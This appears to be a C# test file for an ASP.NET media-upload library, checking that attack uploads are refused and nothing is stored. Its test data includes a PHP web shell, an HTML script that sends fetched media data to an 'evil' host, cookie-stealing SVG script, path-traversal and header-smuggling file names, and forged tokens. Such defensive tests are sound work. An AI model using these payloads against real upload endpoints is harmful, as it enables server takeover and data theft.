using System.Net;
using System.Text;
using System.Text.Json;
using MediaKit.AspNetCore;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Time.Testing;
using static MediaKit.AspNetCore.Tests.ApiTestKit;

namespace MediaKit.AspNetCore.Tests;

/// <summary>
/// One test per attack on the running endpoints (the sample store through <see cref="StoreAppFactory"/>): each ends with
/// the right status, a stable error code, and nothing stored — no new catalog row and no new file under the media root.
/// EICAR is in the ClamAV tests, share links in the share tests, routes × roles × tenants in <see cref="RouteSecurityTests"/>.
/// </summary>
public sealed class AttackTests : IDisposable
{
    private static readonly byte[] s_php = "<?php system($_GET['c']); ?>\n"u8.ToArray();
    private static readonly byte[] s_html = "<!DOCTYPE html><html><body><script>fetch('/api/media').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil',t))</script></body></html>"u8.ToArray();
    private readonly FakeTimeProvider _time = new(DateTimeOffset.UtcNow);
    private readonly StoreAppFactory _app;
    private readonly HttpClient _client;

    public AttackTests()
    {
        _app = new StoreAppFactory(services: s =>
        {
            s.AddSingleton<TimeProvider>(_time);
            // A small limit keeps the oversized bodies of these tests small.
            s.PostConfigure<MediaKitOptions>(o => o.Collections.Find("banners")!.MaxLength = 100_000);
        });
        _client = _app.CreateClient();
    }

    public void Dispose()
    {
        _client.Dispose();
        _app.Dispose();
    }

    private async Task<HttpResponseMessage> AttackAsync(string collection, HttpContent content, HttpStatusCode status, string code)
    {
        await UploadPngAsync(_client, seed: 1); // something legitimately stored, so "nothing stored" is not trivially true
        var before = await SnapshotAsync(_app);
        var response = await _client.PostAsync($"/api/media/upload?collection={collection}", content);
        await AssertProblemAsync(response, status, code);
        Assert.Equal(before, await SnapshotAsync(_app));
        return response;
    }

    [Theory]
    [InlineData("../../../../App_Data/shell.php")]
    [InlineData("..\\..\\..\\wwwroot\\shell.php")]
    [InlineData("/etc/cron.d/shell.php")]
    public async Task A_path_traversal_file_name_is_refused_and_nothing_is_written_anywhere(string fileName)
    {
        var outside = FilesOutsideTheMediaRoot();
        await AttackAsync("products", RawMultipart(("file", fileName, "image/jpeg", s_php)), HttpStatusCode.UnsupportedMediaType, MediaErrorCodes.TypeMismatch);
        Assert.False(File.Exists(Path.Combine(_app.DataPath, "shell.php")));
        Assert.False(File.Exists(Path.GetFullPath(Path.Combine(_app.MediaPath, "..", "..", "shell.php"))));
        Assert.Empty(Directory.GetFiles(_app.DataPath, "shell.php", SearchOption.AllDirectories));
        Assert.Equal(outside, FilesOutsideTheMediaRoot());
    }

    /// <summary>Files of the app's data folder that are neither the SQLite catalog nor under the media root.</summary>
    private string[] FilesOutsideTheMediaRoot()
        => [.. Directory.GetFiles(_app.DataPath, "*", SearchOption.AllDirectories)
            .Where(f => !f.StartsWith(_app.MediaPath + Path.DirectorySeparatorChar, StringComparison.Ordinal) && !Path.GetFileName(f).StartsWith("store.db", StringComparison.Ordinal))
            .Order(StringComparer.Ordinal)];

    [Fact]
    public async Task A_traversal_name_on_a_real_image_is_stored_under_a_generated_key_with_the_name_cut_to_its_last_segment()
    {
        using var response = await _client.PostAsync("/api/media/upload?collection=products", RawMultipart(("file", "../../../../evil.png", "image/png", Png())));
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(response.IsSuccessStatusCode, body);
        Assert.Equal("evil.png", JsonDocument.Parse(body).RootElement.GetProperty("items")[0].GetProperty("asset").GetProperty("fileName").GetString());
        Assert.All(_app.StoredFiles(), f => Assert.StartsWith(_app.MediaPath + Path.DirectorySeparatorChar, f, StringComparison.Ordinal));
        Assert.DoesNotContain(_app.StoredFiles(), f => f.Contains("evil", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("photo\u202Egpj.php")]  // right-to-left override: shows as "photophp.jpg"
    [InlineData("photo.jpg\u0000.php")] // NUL truncation
    [InlineData("photo\t.jpg\u0008")]   // tab and backspace
    public async Task Control_characters_in_a_file_name_do_not_smuggle_a_PHP_file_in(string fileName)
        => await AttackAsync("products", RawMultipart(("file", fileName, "image/jpeg", s_php)), HttpStatusCode.UnsupportedMediaType, MediaErrorCodes.TypeMismatch);

    [Fact]
    public async Task A_CR_LF_in_a_file_name_splits_no_header_and_the_part_is_not_taken_as_a_file()
        => await AttackAsync("products", RawMultipart(("file", "photo\r\nContent-Type: image/png\r\nX: 1.jpg", "image/jpeg", s_php)), HttpStatusCode.BadRequest, MediaErrorCodes.InvalidRequest);

    [Fact]
    public async Task A_double_extension_photo_php_jpg_is_refused()
        => await AttackAsync("products", RawMultipart(("file", "photo.php.jpg", "image/jpeg", s_php)), HttpStatusCode.UnsupportedMediaType, MediaErrorCodes.TypeMismatch);

    [Fact]
    public async Task A_PHP_file_sent_as_image_jpeg_is_refused()
        => await AttackAsync("products", RawMultipart(("file", "shell.php", "image/jpeg", s_php)), HttpStatusCode.UnsupportedMediaType, MediaErrorCodes.TypeMismatch);

    [Fact]
    public async Task An_HTML_file_sent_as_image_jpeg_is_refused()
        => await AttackAsync("products", RawMultipart(("file", "index.jpg", "image/jpeg", s_html)), HttpStatusCode.UnsupportedMediaType, MediaErrorCodes.TypeMismatch);

    [Fact]
    public async Task An_SVG_with_script_is_refused_by_a_collection_of_raster_images()
    {
        var svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.cookie)</script><rect width=\"1\" height=\"1\"/></svg>"u8.ToArray();
        await AttackAsync("products", RawMultipart(("file", "logo.svg", "image/svg+xml", svg)), HttpStatusCode.UnsupportedMediaType, MediaErrorCodes.TypeNotAllowed);
    }

    [Fact]
    public async Task An_SVG_with_script_accepted_by_a_collection_that_takes_SVG_is_never_served_as_a_live_document()
    {
        var svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(document.cookie)</script><rect width=\"1\" height=\"1\"/></svg>"u8.ToArray();
        using var upload = await _client.PostAsync("/api/media/upload?collection=branding", RawMultipart(("file", "logo.svg", "image/svg+xml", svg)));
        var body = await upload.Content.ReadAsStringAsync();
        if (!upload.IsSuccessStatusCode)
        {
            // A collection that sanitizes may refuse what it cannot make safe; then nothing is stored.
            Assert.Equal(HttpStatusCode.UnprocessableEntity, upload.StatusCode);
            Assert.Empty(_app.StoredFiles());
            return;
        }

        var id = JsonDocument.Parse(body).RootElement.GetProperty("items")[0].GetProperty("asset").GetProperty("id").GetGuid();
        using var served = await _client.GetAsync($"/api/media/{id}/content");
        var text = await served.Content.ReadAsStringAsync();
        Assert.Equal(HttpStatusCode.OK, served.StatusCode);
        Assert.Equal("nosniff", served.Headers.GetValues("X-Content-Type-Options").Single());
        Assert.Contains("sandbox", served.Headers.GetValues("Content-Security-Policy").Single(), StringComparison.Ordinal);
        var scriptFree = !text.Contains("<script", StringComparison.OrdinalIgnoreCase) && !text.Contains("onload", StringComparison.OrdinalIgnoreCase);
        Assert.True(scriptFree || served.Content.Headers.ContentDisposition?.DispositionType == "attachment", "An SVG with script is served inline.");
    }

    [Fact]
    public async Task A_pixel_bomb_is_refused_from_its_header()
        => await AttackAsync("products", RawMultipart(("file", "bomb.png", "image/png", PixelBomb())), HttpStatusCode.RequestEntityTooLarge, MediaErrorCodes.TooLarge);

    [Fact]
    public async Task A_file_over_the_collection_limit_is_refused_while_streaming()
        => await AttackAsync("banners", Multipart(("file", "big.png", "image/png", BigPng(300_000))), HttpStatusCode.RequestEntityTooLarge, MediaErrorCodes.TooLarge);

    [Fact]
    public async Task A_body_over_what_the_collection_allows_per_request_is_refused_before_it_is_read()
    {
        // 20 files × (100 kB + 64 kB of multipart overhead) ≈ 3.3 MB at most; send 4 MB.
        await AttackAsync("banners", Multipart(("file", "huge.png", "image/png", new byte[4_000_000])), HttpStatusCode.RequestEntityTooLarge, MediaErrorCodes.TooLarge);
    }

    [Fact]
    public async Task Too_many_files_in_one_request_are_refused_as_a_whole()
    {
        var files = Enumerable.Range(0, 21).Select(i => ("files", $"p{i}.png", "image/png", Png(seed: i + 10))).ToArray();
        await AttackAsync("products", Multipart(files), HttpStatusCode.RequestEntityTooLarge, MediaErrorCodes.TooManyFiles);
    }

    [Fact]
    public async Task A_tampered_signed_url_is_refused()
    {
        var id = await UploadPrivateAsync();
        var url = await SignedUrlAsync(id);
        var tampered = url.Replace("sig=", "sig=A", StringComparison.Ordinal);
        await AssertProblemAsync(await _client.GetAsync(tampered), HttpStatusCode.Forbidden, MediaErrorCodes.SignatureInvalid);

        // Another asset's id under a genuine signature.
        var other = await UploadPrivateAsync(seed: 7);
        await AssertProblemAsync(await _client.GetAsync(url.Replace(id.ToString(), other.ToString(), StringComparison.OrdinalIgnoreCase)), HttpStatusCode.Forbidden, MediaErrorCodes.SignatureInvalid);
    }

    [Fact]
    public async Task An_expired_signed_url_is_refused()
    {
        var id = await UploadPrivateAsync();
        var url = await SignedUrlAsync(id, "?expiresIn=60");
        Assert.Equal(HttpStatusCode.OK, (await _client.GetAsync(url)).StatusCode);
        _time.Advance(TimeSpan.FromSeconds(61));
        await AssertProblemAsync(await _client.GetAsync(url), HttpStatusCode.Forbidden, MediaErrorCodes.SignatureExpired);
    }

    [Fact]
    public async Task A_cookie_authenticated_upload_without_the_antiforgery_token_is_refused()
    {
        var (browser, token) = await SignInWithCookieAsync(_app, "acme-admin");
        using (browser)
        {
            var before = await SnapshotAsync(_app);
            await AssertProblemAsync(
                await browser.PostAsync("/api/media/upload?collection=products", Multipart(("file", "p.png", "image/png", Png()))),
                HttpStatusCode.BadRequest,
                MediaErrorCodes.AntiforgeryFailed);

            // A forged token is no better than none.
            using var forged = new HttpRequestMessage(HttpMethod.Post, "/api/media/upload?collection=products") { Content = Multipart(("file", "p.png", "image/png", Png())) };
            forged.Headers.Add("RequestVerificationToken", "CfDJ8forged");
            await AssertProblemAsync(await browser.SendAsync(forged), HttpStatusCode.BadRequest, MediaErrorCodes.AntiforgeryFailed);
            Assert.Equal(before, await SnapshotAsync(_app));

            // The library page's token makes the same upload work, which is what upload.js sends.
            using var genuine = new HttpRequestMessage(HttpMethod.Post, "/api/media/upload?collection=products") { Content = Multipart(("file", "p.png", "image/png", Png())) };
            genuine.Headers.Add("RequestVerificationToken", token);
            using var accepted = await browser.SendAsync(genuine);
            Assert.True(accepted.IsSuccessStatusCode, await accepted.Content.ReadAsStringAsync());
        }
    }

    [Fact]
    public async Task A_cookie_authenticated_delete_without_the_antiforgery_token_is_refused()
    {
        var id = await UploadPngAsync(_client);
        var (browser, token) = await SignInWithCookieAsync(_app, "acme-admin");
        using (browser)
        {
            var before = await SnapshotAsync(_app);
            await AssertProblemAsync(await browser.DeleteAsync($"/api/media/{id}"), HttpStatusCode.BadRequest, MediaErrorCodes.AntiforgeryFailed);
            Assert.Equal(before, await SnapshotAsync(_app));

            // Reads need no token.
            Assert.Equal(HttpStatusCode.OK, (await browser.GetAsync($"/api/media/{id}")).StatusCode);
            using var genuine = new HttpRequestMessage(HttpMethod.Delete, $"/api/media/{id}");
            genuine.Headers.Add("RequestVerificationToken", token);
            Assert.Equal(HttpStatusCode.NoContent, (await browser.SendAsync(genuine)).StatusCode);
        }
    }

    [Fact]
    public async Task Uploads_over_the_rate_limit_are_refused_with_429_and_Retry_After()
    {
        using var app = new StoreAppFactory(services: s => s.Configure<MediaKitUploadRateLimitOptions>(o => { o.PermitLimit = 2; o.Window = TimeSpan.FromMinutes(5); }));
        using var client = app.CreateClient();
        await UploadPngAsync(client, seed: 1);
        await UploadPngAsync(client, seed: 2);
        var before = await SnapshotAsync(app);
        using var refused = await client.PostAsync("/api/media/upload?collection=products", Multipart(("file", "p.png", "image/png", Png(seed: 3))));
        await AssertProblemAsync(refused, HttpStatusCode.TooManyRequests, MediaErrorCodes.RateLimited);
        Assert.True(refused.Headers.RetryAfter is not null, "429 without Retry-After.");
        Assert.Equal(before, await SnapshotAsync(app));

        // The limit is per user: another user of the same organization still uploads.
        using var other = app.CreateClientAs("acme-admin");
        await UploadPngAsync(other, seed: 4);
    }

    private async Task<Guid> UploadPrivateAsync(int seed = 0)
    {
        using var response = await _client.PostAsync("/api/media/upload?collection=documents", Multipart(("file", $"invoice{seed}.txt", "text/plain", Encoding.UTF8.GetBytes($"Invoice {seed}: 42 EUR\n"))));
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(response.IsSuccessStatusCode, body);
        return JsonDocument.Parse(body).RootElement.GetProperty("items")[0].GetProperty("asset").GetProperty("id").GetGuid();
    }

    private async Task<string> SignedUrlAsync(Guid id, string query = "")
        => JsonDocument.Parse(await _client.GetStringAsync($"/api/media/{id}/signed-url{query}")).RootElement.GetProperty("signedUrl").GetString()!;

    /// <summary>A valid PNG of at least <paramref name="minLength"/> bytes (noise does not compress).</summary>
    private static byte[] BigPng(int minLength)
    {
        var side = (int)Math.Sqrt(minLength / 3.0) + 8;
        using var noise = NetVips.Image.Gaussnoise(side, side).Cast(NetVips.Enums.BandFormat.Uchar);
        using var rgb = noise.Bandjoin(noise, noise);
        var png = rgb.PngsaveBuffer(compression: 0);
        Assert.True(png.Length >= minLength, $"{png.Length} bytes");
        return png;
    }
}
